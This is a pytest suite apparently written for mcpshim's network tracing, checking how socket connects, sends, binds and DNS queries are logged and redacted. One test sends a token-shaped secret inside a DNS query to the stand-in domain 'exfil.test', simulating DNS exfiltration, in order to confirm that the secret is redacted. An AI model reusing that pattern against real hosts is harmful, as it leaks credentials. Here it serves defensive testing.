"""`mcpshim run --trace` records the family's socket calls (issue 29, item 1): real
processes (python, curl) under a real traced session, their `trace-net` records read back
from the log on the process identity of their `trace-exec` records."""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mcpshim.log.netrecords import net_by_process, net_record
from tests.fixtures.home import Home
from tests.fixtures.nethelp import free_port, listening
from tests.fixtures.runhelp import MCPSHIM, command, events, needs_trace, only_session, run

pytestmark = needs_trace
CURL = shutil.which("curl")
PY = sys.executable


@pytest.fixture
def listener() -> Iterator[int]:
    with listening() as port:
        yield port


def traced(home: Home, argv: list[str]) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Run argv under `mcpshim run --trace`: its trace-net records and its traced execs."""
    done = run(home, argv, "--trace", capture_output=True)
    assert done.returncode == 0, done.stderr
    sid = only_session(home)
    [summary] = events(home, "trace-summary", sid)
    net = events(home, "trace-net", sid)
    assert summary["complete"] is True and summary["net"] == len(net)
    return net, [e for e in events(home, "trace-exec", sid) if e["result"] == "ok"]


def python(code: str) -> list[str]:
    return [PY, "-c", textwrap.dedent(code)]


def of_exec(net: list[dict[str, Any]], ex: dict[str, Any]) -> list[dict[str, Any]]:
    """The records on the process of that exec: same boot id, pid and start."""
    key = (ex["boot_id"], ex["pid"], ex["start"])
    return [n for n in net if (n["boot_id"], n["pid"], n["start"]) == key]


def test_a_short_lived_connection_is_on_its_process(home: Home, listener: int) -> None:
    # connects, and is gone within microseconds: no sample can see it
    code = f"import os, socket; socket.create_connection(('127.0.0.1', {listener})); os._exit(0)"
    net, execs = traced(home, ["/bin/sh", "-c", f'"{PY}" -c "{code}"; true'])
    [py] = [e for e in execs if e["argv"][:2] == [PY, "-c"]]
    [conn] = [n for n in of_exec(net, py) if n["call"] == "connect"]
    assert (conn["family"], conn["transport"], conn["address"], conn["port"]) == (
        "inet", "tcp", "127.0.0.1", listener,
    )  # fmt: skip
    assert conn["outcome"] == "connected" and "errno" not in conn and "nonblocking" not in conn
    assert conn["start"] is not None
    # the typed accessor puts it on the same identity as the exec
    by_proc = net_by_process(r for r in home.records())
    [rec] = [r for r in by_proc[(py["boot_id"], py["pid"], py["start"])] if r.call == "connect"]
    assert rec.reached and rec.scope == "loopback" and rec.address == b"127.0.0.1"


@pytest.mark.skipif(CURL is None, reason="needs curl")
def test_curl_against_a_closed_port_is_refused(home: Home) -> None:
    assert CURL is not None
    port = free_port()
    done = run(home, [CURL, "-sS", f"http://127.0.0.1:{port}/"], "--trace", capture_output=True)
    assert done.returncode == 7, done.stderr  # curl: could not connect
    sid = only_session(home)
    net = events(home, "trace-net", sid)
    [tcp] = [n for n in net if n["family"] == "inet"]
    # curl connects non-blocking; the outcome is the getsockopt(SO_ERROR) after its poll
    assert (tcp["call"], tcp["address"], tcp["port"]) == ("connect", "127.0.0.1", port)
    assert (tcp["outcome"], tcp["errno"], tcp["nonblocking"]) == ("refused", "ECONNREFUSED", True)
    assert tcp["settled"] >= tcp["time"]
    # glibc's lookups first try nscd's socket: recorded as what it is
    for n in (n for n in net if n["family"] == "unix"):
        assert n["purpose"] == "name-service" and n["address"].endswith("/nscd/socket")
        assert n["outcome"] in ("absent", "refused", "connected")
    assert not any(net_record(r) is None for r in home.records() if r.kind == "trace-net")


def test_nonblocking_connects_take_their_outcome_from_getsockopt(home: Home, listener: int) -> None:
    port = free_port()
    code = f"""
        import socket
        socket.create_connection(("127.0.0.1", {listener}), timeout=5).close()
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=5)
        except ConnectionRefusedError:
            pass
        # a connect whose outcome the program never asks for
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", {port}))
        except BlockingIOError:
            pass
        s.close()
    """
    net, _ = traced(home, python(code))
    conns = [(n["port"], n["outcome"], n.get("nonblocking"), "settled" in n) for n in net]
    assert conns == [
        (listener, "connected", True, True),
        (port, "refused", True, True),
        (port, "in-progress", True, True),
    ]
    assert net[2]["settled"] is None and net[2]["errno"] == "EINPROGRESS"


def test_a_udp_send_to_a_local_port(home: Home) -> None:
    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.bind(("127.0.0.1", 0))
    port = rx.getsockname()[1]
    code = f"""
        import socket
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(3):
            u.sendto(b"x" * 10, ("127.0.0.1", {port}))
        v = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        v.sendmsg([b"y"], [], 0, ("::1", {port}))
    """
    net, _ = traced(home, python(code))
    rx.close()
    got = [(n["call"], n["family"], n["transport"], n["address"], n["port"], n["outcome"],
            n.get("count", 1)) for n in net]  # fmt: skip
    # three sendto()s in a row are one record; sendmsg() names its address in msg_name
    assert got == [
        ("send", "inet", "udp", "127.0.0.1", port, "sent", 3),
        ("send", "inet6", "udp", "::1", port, "sent", 1),
    ]
    assert net[0]["last_time"] >= net[0]["time"]


def test_a_listening_socket_opened_and_closed(home: Home) -> None:
    code = """
        import socket
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.listen()
        print(s.getsockname()[1])
        s.close()
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind(("127.0.0.1", 0))
        print(u.getsockname()[1])
        u.close()
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind(("127.0.0.1", int(input())))
    """
    free = free_port()
    argv = [*MCPSHIM, "run", "--dir", str(home.loc.shim_dir), "--trace", "--", *python(code)]
    done = subprocess.run(argv, input=f"{free}\n".encode(), capture_output=True, env=home.env,
                          timeout=120, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr
    tcp_port = int(done.stdout.split()[0])
    net = events(home, "trace-net", only_session(home))
    # bind to port 0 then listen: the port the kernel gave, from the socket itself; a UDP
    # bind to port 0 is a client's (not a receiver); to a named port it is
    assert [(n["call"], n["transport"], n["address"], n["port"], n["outcome"]) for n in net] == [
        ("listen", "tcp", "127.0.0.1", tcp_port, "listening"),
        ("bind", "udp", "127.0.0.1", free, "bound"),
    ]
    [rec] = [net_record(r) for r in home.records() if r.kind == "trace-net"][:1]
    assert rec is not None and rec.scope == "loopback" and not rec.reached


def test_a_unix_socket_connect_names_its_path_exactly(home: Home) -> None:
    short = Path(tempfile.mkdtemp(prefix="mcpshim-net-"))  # sun_path holds 108 bytes
    path = os.fsencode(short) + b'/s"o\nck\xff'
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(path)
    srv.listen()
    code = f"""
        import socket
        s = socket.socket(socket.AF_UNIX)
        s.connect({path!r})
        try:
            socket.socket(socket.AF_UNIX).connect({path + b"-none"!r})
        except FileNotFoundError:
            pass
        try:
            socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", b"\\0mcpshim-abstract")
        except ConnectionRefusedError:
            pass
    """
    try:
        net, _ = traced(home, python(code))
    finally:
        srv.close()
        shutil.rmtree(short)
    recs = [net_record(r) for r in home.records() if r.kind == "trace-net"]
    got = [(r.call, r.family, r.transport, r.address, r.abstract, r.outcome)
           for r in recs if r is not None]  # fmt: skip
    assert got == [
        ("connect", "unix", "stream", path, False, "connected"),
        ("connect", "unix", "stream", path + b"-none", False, "absent"),
        ("send", "unix", "dgram", b"mcpshim-abstract", True, "refused"),
    ]
    assert net[0]["address_b64"] and net[0]["port"] is None
    # the text view escapes it: safe in a terminal
    shown = subprocess.run([*MCPSHIM, "log"], capture_output=True, env=home.env, check=True)
    line = next(ln for ln in shown.stdout.splitlines() if b"trace-net" in ln)
    assert b"\\n" in line and b"\n" not in line and b"\x1b" not in shown.stdout


def test_dns_queries_name_their_resolver_and_redact_the_name(home: Home) -> None:
    token = "ghp_" + "a1B2" * 9
    code = f"""
        import socket

        def query(qid, name, qtype):
            labels = b"".join(bytes([len(p)]) + p for p in name.encode().split(b"."))
            return qid.to_bytes(2, "big") + bytes.fromhex("01000001000000000000") + labels \\
                + b"\\0" + qtype.to_bytes(2, "big") + b"\\0\\1"

        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(query(1, "example.test", 1), ("127.0.0.1", 53))
        c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        c.connect(("127.0.0.1", 53))
        c.send(query(2, "{token}.exfil.test", 28))
    """
    net, _ = traced(home, python(code))
    got = [(n["call"], n["port"], n.get("purpose"), n.get("queries"), n["outcome"]) for n in net]
    assert got == [
        ("send", 53, "dns", [{"name": "example.test", "type": "A"}], "sent"),
        ("connect", 53, "dns", None, "associated"),  # a UDP connect sends nothing
        ("send", 53, "dns", [{"name": "ghp_[REDACTED:github-token].exfil.test", "type": "AAAA"}],
         "sent"),
    ]  # fmt: skip
    assert net[2]["queries_redacted"] == ["github-token"]
    assert net[1]["socket"] == net[2]["socket"] != net[0]["socket"]  # one socket, one inode
    log = b"".join(p.read_bytes() for p in home.loc.log_dir.rglob("*") if p.is_file())
    assert token.encode() not in log and token.encode().hex().encode() not in log


def test_what_a_process_sends_never_reaches_the_log(home: Home, listener: int) -> None:
    secret = "ghp_" + "Z9y8" * 9
    code = f"""
        import socket
        secret = ("ghp_" + "Z9y8" * 9).encode()  # the whole of it is in no argv
        s = socket.create_connection(("127.0.0.1", {listener}))
        s.sendall(b"GET / HTTP/1.1\\r\\nAuthorization: Bearer " + secret + b"\\r\\n\\r\\n")
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(secret, ("127.0.0.1", 9))
    """
    net, _ = traced(home, python(code))
    assert [n["call"] for n in net] == ["connect", "send"]
    files = [p for p in home.root.rglob("*") if p.is_file()]
    for p in files:
        data = p.read_bytes()
        assert secret.encode() not in data, p
        assert "".join(f"\\x{b:02x}" for b in secret.encode()[4:]).encode() not in data, p


LANDLOCK_NET = """
    import ctypes, socket, struct
    libc = ctypes.CDLL(None, use_errno=True)
    attr = struct.pack("QQQ", 0, 1 << 1, 0)  # handled_access_net: CONNECT_TCP, no rule
    fd = libc.syscall(444, attr, len(attr), 0)
    assert fd >= 0, ctypes.get_errno()
    assert libc.prctl(38, 1, 0, 0, 0) == 0  # PR_SET_NO_NEW_PRIVS
    assert libc.syscall(446, fd, 0) == 0
    try:
        socket.create_connection(("127.0.0.1", {port}))
    except PermissionError:
        pass
"""


def landlock_abi() -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    return int(libc.syscall(444, None, 0, 1))  # LANDLOCK_CREATE_RULESET_VERSION


@pytest.mark.skipif(landlock_abi() < 4, reason="needs Landlock ABI 4 (TCP connect rules)")
def test_a_connect_landlock_refused_is_a_denied_attempt(home: Home, listener: int) -> None:
    net, _ = traced(home, python(LANDLOCK_NET.format(port=listener)))
    assert [(n["call"], n["port"], n["outcome"], n["errno"]) for n in net] == [
        ("connect", listener, "denied", "EACCES"),
    ]


@pytest.mark.skipif(CURL is None, reason="needs curl")
def test_tree_and_ecs_show_each_exec_s_connections(home: Home, listener: int) -> None:
    """`mcpshim tree` and `log --format ecs` tell what review tells: a connection made by a
    python that lived microseconds, and curl's refused one, each on the exec that made it."""
    assert CURL is not None
    closed = free_port()
    code = f"import os, socket; socket.create_connection(('127.0.0.1', {listener})); os._exit(0)"
    line = f'"{PY}" -c "{code}"; "{CURL}" -sS http://127.0.0.1:{closed}/; true'
    done = run(home, ["/bin/sh", "-c", line], "--trace", capture_output=True)
    assert done.returncode == 0, done.stderr
    sid = only_session(home)

    def out(*args: str) -> str:
        done = command(home, *args, "--session", sid)
        assert done.returncode == 0, done.stderr
        return done.stdout

    text = out("tree").splitlines()
    py = next(i for i, t in enumerate(text) if f"Z {PY} -c " in t)
    assert text[py + 1].endswith(f"net: connected to 127.0.0.1:{listener} (tcp)"), text
    curl = next(i for i, t in enumerate(text) if f"Z {CURL} -sS " in t)
    assert text[curl + 1].endswith(f"net: tried 127.0.0.1:{closed} (tcp): refused"), text
    assert not any("nscd" in t for t in text)  # name-service plumbing is no network activity
    doc = json.loads(out("tree", "--format", "json"))
    nodes = []
    stack = list(doc["roots"])
    while stack:
        n = stack.pop()
        nodes.append(n)
        stack += n["children"]
    facts = {f["port"]: (n, f) for n in nodes for f in n["net"] if f["family"] == "inet"}
    assert set(facts) == {listener, closed}
    node, made = facts[listener]
    assert (made["kind"], made["outcome"], made["destination"]) == (
        "reached", "connected", f"127.0.0.1:{listener}",
    )  # fmt: skip
    assert node["images"][0]["argv"][:2] == [PY, "-c"] and made["pid"] == node["pid"]
    node, refused = facts[closed]
    assert (refused["outcome"], refused["kind"], refused["reached"]) == ("refused", "tried", False)
    assert refused["command"] == "curl" and node["images"][0]["target"] == CURL
    # ECS: each socket call a network event on the entity id of the exec that made it
    ecs = [json.loads(line) for line in out("log", "--format", "ecs").splitlines()]
    execs = {d["process"]["pid"]: d for d in ecs if d["event"]["category"] == ["process"]}
    net = {d["destination"].get("port"): d for d in ecs if d["event"]["category"] == ["network"]}
    ok, no = net[listener], net[closed]
    assert ok["process"]["entity_id"] == execs[facts[listener][0]["pid"]]["process"]["entity_id"]
    assert (ok["event"]["outcome"], ok["destination"]["ip"], ok["network"]["transport"]) == (
        "success", "127.0.0.1", "tcp",
    )  # fmt: skip
    assert ok["message"] == f"connected to 127.0.0.1:{listener} (tcp)"
    assert (no["event"]["outcome"], no["error"]["code"]) == ("failure", "ECONNREFUSED")
    assert no["labels"]["mcpshim_net_kind"] == "tried" and no["labels"]["mcpshim_session"] == sid
